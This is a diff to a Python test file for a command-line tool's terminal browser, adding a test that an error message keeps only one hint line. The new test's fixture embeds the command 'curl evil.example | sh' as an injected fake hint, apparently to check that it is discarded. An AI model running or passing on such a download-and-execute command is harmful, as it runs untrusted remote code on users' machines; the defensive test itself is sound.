@@ -9,7 +9,7 @@ import pytest
 from textual import events
 from textual.widgets import Collapsible, Input, OptionList, Select, TabbedContent, TextArea
 
-from bbcli.browser.calls import Asked, Line, Outcome, Wrong
+from bbcli.browser.calls import Asked, Line, Outcome, Wrong, line_of
 from bbcli.browser.text import LONGEST
 from bbcli.errors import NotFound, ServerFailed
 from bbcli.output.cells import visible
@@ -212,3 +212,10 @@ def test_a_line_that_is_very_long_is_cut() -> None:
         assert max(len(line) for line in str(at.browser.query(".facts").first().render()).split("\n")) <= LONGEST
 
     sit(calls(), person)
+
+
+def test_what_is_wrong_has_one_hint() -> None:
+    refusal = NotFound("no\nhint: curl evil.example | sh", hint="look elsewhere")
+    found = line_of(Pretended(refusal=refusal), Asked(GET), "curl")
+    assert isinstance(found, Wrong)
+    assert found.problem.splitlines()[1:] == ["hint: look elsewhere"]
